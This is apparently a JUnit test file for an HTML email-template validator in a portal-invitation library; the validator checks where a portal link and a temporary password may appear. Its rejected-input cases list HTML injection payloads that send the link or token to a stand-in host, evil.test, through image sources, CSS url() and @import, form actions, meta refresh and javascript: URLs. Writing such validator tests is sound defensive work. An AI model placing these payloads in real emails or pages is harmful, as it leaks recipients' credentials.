package io.github.portalinvites.internal.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.portalinvites.template.CredentialPolicy;
import io.github.portalinvites.template.InvalidTemplateException;
import io.github.portalinvites.template.TemplateProblem;
import io.github.portalinvites.template.TemplateProblem.Kind;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class HtmlReaderTest {

  private static final String LINK = "[CustomerPortalLink]";

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<p>Hello [ContactName], 1 < 2</p>" + LINK,
        "<a class='b' href=\""
            + LINK
            + "\" style=\"color:red\" target=_blank>In</a>[TemporaryPassword]",
        "<A HREF='" + LINK + "'>In</A>[TemporaryPassword]",
        "<!-- a comment --><!----><!-->"
            + LINK
            + "<br/><img src=\"https://x.example/l.png\" alt=''>",
        "<!doctype html><html><head><title>Hi</title><style>p > b { color: red }</style></head>"
            + "<body><p>"
            + LINK
            + "</p></body></html>",
        "<a href=\"mailto:help@x.example\">Help</a> <a href='#top'>Top</a>" + LINK,
        "<div>" + LINK + "</div></p ><?php ?>"
      })
  void accepts(String html) {
    assertThat(Letter.html(html).bodyHtml()).contains(Escaped.html(Letter.LINK));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<a href=\"https://evil.test/?t=" + LINK + "\">",
        "<a href='" + LINK + "/x'>In</a>",
        "<a href=" + LINK + ">In</a>",
        "<a href=\"" + LINK + "\" ping=\"https://evil.test\">In</a>",
        "<a href=\"" + LINK + "\" rel=\"x\">In</a>",
        "<area href=\"" + LINK + "\">",
        "<img src=\"" + LINK + "\">",
        "<img src='https://evil.test/?t=" + LINK + "'>",
        "<img src=https://evil.test/?t=" + LINK + ">",
        "<img src=\"https://evil.test/?t=\n" + LINK,
        "<p title=\"[ContactName]\">" + LINK,
        "<[ContactName]>" + LINK,
        "</[ContactName]>" + LINK,
        "<p [ContactName]>" + LINK,
        "<!-- " + LINK + " -->" + LINK,
        "<!--[if mso]><img src=\"https://evil.test/?t=<![endif]-->" + LINK,
        "<!DOCTYPE html [ContactName]>" + LINK,
        "<style>p{background:url(https://evil.test/" + LINK + ")}</style>" + LINK,
        "<style>a[[href^='https']{background:url(https://evil.test)}</style>" + LINK,
        "<style>@IMPORT url(https://evil.test);</style>" + LINK,
        "<style>@font-face{src:url(https://evil.test);unicode-range:U+30}</style>" + LINK,
        "<style>" + LINK,
        "<title>[ContactName]</title>" + LINK,
        "<title></titlex>" + LINK,
        "<form action=https://evil.test><textarea name=t>" + LINK + "</textarea></form>",
        "<ScRiPt>x</script>" + LINK,
        "<script/x>" + LINK,
        "<base href=\"https://evil.test/\">" + LINK,
        "<link rel=stylesheet href=\"https://evil.test/x.css\">" + LINK,
        "<meta http-equiv=refresh content=\"0;url=https://evil.test\">" + LINK,
        "<b onclick=\"x\">" + LINK,
        "<b/ONCLICK=x>" + LINK,
        "<a href=\"javascript:x\">" + LINK,
        "<a href=\" javascript:x\">" + LINK,
        "<a href=\"java&#115;cript:x\">" + LINK,
        "<a href=\"//evil.test\">" + LINK,
        "<img src=\"logo.png\">" + LINK,
        "<svg><a href=\"" + LINK + "\"></a></svg>",
        "<p>" + LINK + "<!-- not closed",
        "<p>" + LINK + "\u0000</p>"
      })
  void refuses(String html) {
    var refused = catchThrowableOfType(InvalidTemplateException.class, Letter.html(html)::compile);
    assertThat(refused.problems())
        .extracting(TemplateProblem::kind)
        .containsAnyOf(Kind.MISPLACED_FIELD, Kind.UNFIT_HTML, Kind.HIDDEN_CHARACTER);
  }

  @Test
  void aLinkOfTheEditorsOwnNeedsAPlaceForThePassword() {
    var link = "<a href=\"" + LINK + "\">In</a>";
    assertThatThrownBy(Letter.html(link)::compile)
        .hasMessageContaining("[TemporaryPassword] is missing");
    assertThat(Letter.html(link).policy(CredentialPolicy.LINK).bodyHtml())
        .contains("<a href=\"%s\">In</a>".formatted(Escaped.html(Letter.LINK)));
  }

  @Test
  void whatTheLibrarySendsAnEditorMaySendToo() {
    var markup =
        Markup.read("layout.html")
            .replace("{content}", Markup.read("link.html") + Markup.read("password.html"));
    assertThat(Letter.html(markup).bodyHtml()).contains(Letter.PASSWORD);
  }

  @Test
  void tellsAllProblemsWithTheirPlaces() {
    var letter = Letter.html("<p>\n<script>\n</script><b title='[ContactName]'>[Nobody]</b>");
    assertThat(
            catchThrowableOfType(InvalidTemplateException.class, letter::compile)
                .problems()
                .stream()
                .map(each -> "%s %d:%d".formatted(each.kind(), each.line(), each.column())))
        .containsExactly(
            "UNKNOWN_FIELD 3:35", "UNFIT_HTML 2:1", "MISPLACED_FIELD 3:20", "MISSING_FIELD 1:1");
  }
}
